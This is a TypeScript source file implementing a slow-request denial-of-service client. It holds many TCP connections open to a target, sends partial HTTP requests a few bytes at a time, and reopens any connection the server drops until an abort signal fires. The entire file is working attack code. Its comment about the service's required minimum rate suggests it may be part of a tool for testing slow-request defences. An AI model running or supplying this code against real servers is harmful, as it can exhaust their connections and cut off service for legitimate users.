import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attacking } from './attack-request.ts';

/** Two hundred bytes, four times a second: faster than the minimum that the service requires. */
const drip = 'a'.repeat(200);
const dripMs = 250;

/** Sockets that begin a request, send it slowly, and are opened again when they are closed. */
export class SlowSockets {
  readonly #attack: Attacking;
  readonly #beginnings: readonly Buffer[];
  readonly #sockets = new Set<Socket>();

  constructor(attack: Attacking, beginnings: readonly string[]) {
    this.#attack = attack;
    this.#beginnings = beginnings.map((text) => Buffer.from(text, 'latin1'));
  }

  async untilOver(): Promise<void> {
    const { signal, sockets } = this.#attack;
    for (let n = 0; n < sockets; n++) this.#open(n);
    while (!signal.aborted) {
      await sleep(dripMs);
      let n = 0;
      // Half of them are slower than any modem.
      for (const socket of this.#sockets) if (socket.writable) socket.write(n++ % 2 === 0 ? drip : 'a');
    }
    for (const socket of this.#sockets) socket.destroy();
  }

  #open(n: number): void {
    const { origin, address, signal, note } = this.#attack;
    const { hostname, port } = new URL(origin);
    const socket = connect({ host: hostname, port: Number(port), localAddress: address });
    this.#sockets.add(socket);
    socket.on('error', () => undefined);
    socket.on('data', (bytes: Buffer) =>
      note(Number(/^HTTP\/1\.\d (\d{3})/.exec(`${bytes}`)?.[1]) || 'none'),
    );
    socket.once('connect', () => socket.write(this.#beginnings[n % this.#beginnings.length] as Buffer));
    socket.once('close', () => {
      this.#sockets.delete(socket);
      setTimeout(() => signal.aborted || this.#open(n), dripMs);
    });
  }
}
